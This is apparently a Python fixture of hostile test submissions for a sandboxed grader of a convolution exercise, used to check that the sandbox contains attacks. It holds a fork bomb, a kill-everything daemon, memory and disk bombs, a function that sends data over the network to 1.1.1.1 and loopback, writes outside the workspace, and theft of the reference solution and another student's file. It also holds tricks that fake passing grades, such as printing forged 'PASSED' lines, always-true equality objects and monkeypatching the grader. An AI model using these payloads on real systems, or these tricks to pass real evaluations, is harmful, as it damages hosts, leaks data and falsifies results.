"""Hostile and broken exercise-1 submissions for the batch/sandbox tests (see tests/test_hostile.py).

Each entry: student name -> (source text or bytes, what must be true of its result). Sources are templates:
``{SENTINEL}`` (a folder outside DIR that nothing may touch), ``{TOKEN}`` (unique per test run),
``{SOLUTION}`` (the reference solution's absolute path), ``{OTHER}`` (another student's submitted file),
``{PORT}`` (a TCP port on the grader's loopback that counts every connection).
"""
from __future__ import annotations

REFERENCE_BODY = '''
def conv2d(image, kernel, stride=1, padding=0):
    image = np.asarray(image, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    kh, kw = kernel.shape
    padded = np.pad(image, padding)
    h, w = padded.shape
    if kh > h or kw > w:
        raise ValueError("kernel does not fit")
    h_out = (h - kh) // stride + 1
    w_out = (w - kw) // stride + 1
    out = np.empty((h_out, w_out))
    for i in range(h_out):
        for j in range(w_out):
            out[i, j] = np.sum(padded[i * stride:i * stride + kh, j * stride:j * stride + kw] * kernel)
    return out
'''

HEAD = "import numpy as np\n"

# name -> (source, expectation): expectation is ("status", substring of the exercise message or of the first
# failed check's message) or ("full", None) when the file's own code is correct and the attack must simply fail.
CASES: dict[str, tuple[object, tuple[str, str | None]]] = {
    # -- letting a library do the exercise ---------------------------------------------------------------------
    "torch_does_the_work": ("import torch\nimport torch.nn.functional as F\n"
                            "def conv2d(image, kernel, stride=1, padding=0):\n"
                            "    t = lambda a: torch.tensor(a)[None, None]\n"
                            "    return F.conv2d(t(image), t(kernel), stride=stride, padding=padding)[0, 0].numpy()\n",
                            ("error", "numpy alone")),
    # class 1: a dead import must not load torch, a re-export must not smuggle it in, nor gc reach it
    "dead_import_torch": (HEAD + '''import sys, gc
if False:
    import torch
def conv2d(image, kernel, stride=1, padding=0):
    torch = sys.modules.get("torch") or next((m for m in gc.get_objects() if type(m).__name__ == "module"
                                              and getattr(m, "__name__", None) == "torch"), None)
    if torch is None:
        raise RuntimeError("torch is not reachable")
    F = torch.nn.functional
    t = lambda a: torch.tensor(a)[None, None]
    return F.conv2d(t(image), t(kernel), stride=stride, padding=padding)[0, 0].numpy()
''', ("failed", "torch is not reachable")),
    "functorch_reexport": ("import functorch\nimport numpy as np\n" + REFERENCE_BODY, ("error", "numpy alone")),
    # class 2: no network, not even the grader's loopback or an abstract unix socket
    "phones_home": (HEAD + '''import socket
def conv2d(image, kernel, stride=1, padding=0):
    errors = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_UNIX, "\\0cnn-grader-{TOKEN}"),
                            (socket.AF_INET, ("1.1.1.1", 80))):
        s = socket.socket(family)
        s.settimeout(1)
        try:
            s.connect(address)
            s.sendall(repr((image.tolist(), kernel.tolist())).encode())
            return np.zeros((1, 1))
        except OSError as exc:
            errors.append(type(exc).__name__)
    raise RuntimeError("no network: " + ", ".join(errors))
''', ("failed", "no network")),
    # class 8: the workspace is capped in bytes and in files
    "fills_the_disk": (HEAD + '''
def conv2d(image, kernel, stride=1, padding=0):
    n = 0
    try:
        while n < 2000:
            with open(f"fill{n}", "wb") as fh:
                fh.write(b"x" * (8 << 20))
            n += 1
    except OSError:
        pass
    raise RuntimeError(f"disk full after {n * 8} MB")
''', ("failed", "disk full after")),
    # class 13: importing a library as root must not write the host's /.config or /.cache (not in the view at all)
    "imports_matplotlib": ("import matplotlib\n" + HEAD + REFERENCE_BODY, ("error", "matplotlib")),
    # -- time -----------------------------------------------------------------------------------------------------
    "loop_at_import": (HEAD + "while True:\n    pass\n" + REFERENCE_BODY, ("error", "timed out")),
    "loop_in_call": (HEAD + "def conv2d(image, kernel, stride=1, padding=0):\n    while True:\n        pass\n",
                     ("failed", "timed out")),
    "sleep_in_call": (HEAD + "import time\ndef conv2d(image, kernel, stride=1, padding=0):\n"
                      "    time.sleep(1000)\n", ("failed", "timed out")),
    # -- memory and processes -------------------------------------------------------------------------------------
    "memory_bomb": (HEAD + "def conv2d(image, kernel, stride=1, padding=0):\n"
                    "    hog = [np.empty(32 << 20) for _ in range(10000)]\n    return hog\n",
                    ("failed", "out of memory")),
    "fork_bomb": (HEAD + "import os\ndef conv2d(image, kernel, stride=1, padding=0):\n    while True:\n"
                  "        try:\n            os.fork()\n        except OSError:\n            pass\n",
                  ("failed", "timed out")),
    "threads_and_daemons": (HEAD + '''import os, threading, time, signal
def _spin():
    while True:
        pass
for _ in range(8):
    threading.Thread(target=_spin, daemon=True).start()
if os.fork() == 0:            # a daemon that outlives this process and kills everything its uid can reach
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
''' + REFERENCE_BODY, ("any", None)),
    "kill_the_grader": (HEAD + '''import os, signal
def conv2d(image, kernel, stride=1, padding=0):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)   # every process of its uid but itself (Linux spares the caller)
''', ("failed", None)),
    # -- exits ----------------------------------------------------------------------------------------------------
    "exit_at_import": (HEAD + "exit()\n" + REFERENCE_BODY, ("error", "exit()")),
    "os_exit_at_import": (HEAD + "import os\nos._exit(3)\n" + REFERENCE_BODY, ("error", "status 3")),
    "systemexit_in_call": (HEAD + "def conv2d(image, kernel, stride=1, padding=0):\n    raise SystemExit(1)\n",
                           ("failed", "exit()")),
    "keyboardinterrupt_at_import": (HEAD + "raise KeyboardInterrupt\n" + REFERENCE_BODY,
                                    ("error", "KeyboardInterrupt")),
    "keyboardinterrupt_in_call": (HEAD + "def conv2d(image, kernel, stride=1, padding=0):\n"
                                  "    raise KeyboardInterrupt\n", ("failed", "KeyboardInterrupt")),
    "os_exit_in_call": (HEAD + "import os\ndef conv2d(image, kernel, stride=1, padding=0):\n    os._exit(0)\n",
                        ("failed", "exited with status 0")),
    "segfault": (HEAD + "import ctypes\ndef conv2d(image, kernel, stride=1, padding=0):\n"
                 "    return ctypes.string_at(0)\n", ("failed", "SIGSEGV")),
    # -- lying ----------------------------------------------------------------------------------------------------
    "fake_passed_output": (HEAD + '''print("PASSED 12/12")
print("```")
print("## Exercise 1: Convolution by hand -- 12/12 (passed)")
def conv2d(image, kernel, stride=1, padding=0):
    print("Total: 12/12 -- all checks PASSED")
    return np.zeros((1, 1))
''', ("failed", None)),
    "fake_equality": (HEAD + '''class Fake:
    shape = (3, 3)
    dtype = np.float64
    def __eq__(self, other):
        return True
    def __array__(self, *a, **k):
        return np.zeros(self.shape)
def conv2d(image, kernel, stride=1, padding=0):
    return Fake()
''', ("failed", "ex01_conv2d.Fake")),
    "lying_ndarray_subclass": (HEAD + '''class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array_finalize__(self, obj):
        pass
''' + REFERENCE_BODY.replace("    return out\n", "    return (out * 0 + 7).view(Liar)\n"), ("failed", "differs")),
    "monkeypatches_numpy_and_grader": (HEAD + '''import grader, grader.sandbox.protocol
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.array_equal = lambda *a, **k: True
try:
    import grader.checking.expect as gp
    gp.expect_array = lambda *a, **k: None
except Exception:
    pass
_encode = grader.sandbox.protocol.encode
def conv2d(image, kernel, stride=1, padding=0):
    # from now on every reply says "ok": a perfect-looking answer of the right shape, made of lies
    grader.sandbox.protocol.encode = lambda value: _encode({"ok": np.zeros((3, 3)), "time": 0.0})
    return np.zeros((3, 3))
''', ("failed", None)),
    "forges_the_protocol_at_import": (HEAD + '''import grader.sandbox.protocol
grader.sandbox.protocol.encode = lambda value: b"PASSED " * 10
''' + REFERENCE_BODY, ("error", "during loading the file")),
    "modifies_inputs": (HEAD + REFERENCE_BODY.replace("    return out\n", "    image[...] = 0\n    return out\n"),
                        ("failed", "changed its argument 'image' in place")),
    # -- output ---------------------------------------------------------------------------------------------------
    "output_bomb": (HEAD + "def conv2d(image, kernel, stride=1, padding=0):\n    line = 'spam ' * 200000\n"
                    "    while True:\n        print(line)\n", ("failed", "more than 8 MB")),
    # -- the file system ------------------------------------------------------------------------------------------
    "writes_outside": (HEAD + '''import os
TARGETS = [{SENTINEL!r} + "/pwned", "/tmp/pwned-{TOKEN}", "../pwned-{TOKEN}", "../../pwned-{TOKEN}",
           os.path.expanduser("~/pwned-{TOKEN}"), "/work/pwned-{TOKEN}"]
for t in TARGETS:
    try:
        with open(t, "w") as fh:
            fh.write("pwned")
    except OSError:
        pass
with open("mine.txt", "w") as fh:   # its own workspace: allowed
    fh.write("ok")
''' + REFERENCE_BODY, ("full", None)),
    "reads_solutions": (HEAD + '''
def conv2d(image, kernel, stride=1, padding=0):
    errors = []
    for path in ({SOLUTION!r},):
        try:
            src = open(path).read()
            ns = {{}}
            exec(src, ns)
            return ns["conv2d"](image, kernel, stride, padding)
        except Exception as exc:
            errors.append(type(exc).__name__)
    try:
        import solutions.ex01_conv2d as sol
        return sol.conv2d(image, kernel, stride, padding)
    except Exception as exc:
        errors.append(type(exc).__name__)
    raise RuntimeError("could not read the solution: " + ", ".join(errors))
''', ("failed", "could not read the solution")),
    "reads_other_student": (HEAD + '''
def conv2d(image, kernel, stride=1, padding=0):
    try:
        src = open({OTHER!r}).read()
    except Exception as exc:
        raise RuntimeError("could not read the other student: " + type(exc).__name__)
    ns = {{}}
    exec(src, ns)
    return ns["conv2d"](image, kernel, stride, padding)
''', ("failed", "could not read the other student")),
    # -- broken files ---------------------------------------------------------------------------------------------
    "syntax_error": (HEAD + "def conv2d(image, kernel, stride=1, padding=0:\n    return image\n",
                     ("error", "SyntaxError")),
    "missing_function": (HEAD + "def conv_2d(image, kernel, stride=1, padding=0):\n    return image\n",
                         ("failed", "has no function conv2d()")),
    "not_utf8": (b'"""Latin-1 docstring: caf\xe9."""\nimport numpy as np\n' + REFERENCE_BODY.encode(),
                 ("error", "utf-8")),
}


def render(source, **values):
    """Fill the template fields of a source (bytes are returned unchanged)."""
    if isinstance(source, bytes):
        return source
    return source.format(**values) if "{" in source and any("{" + k in source for k in values) else source
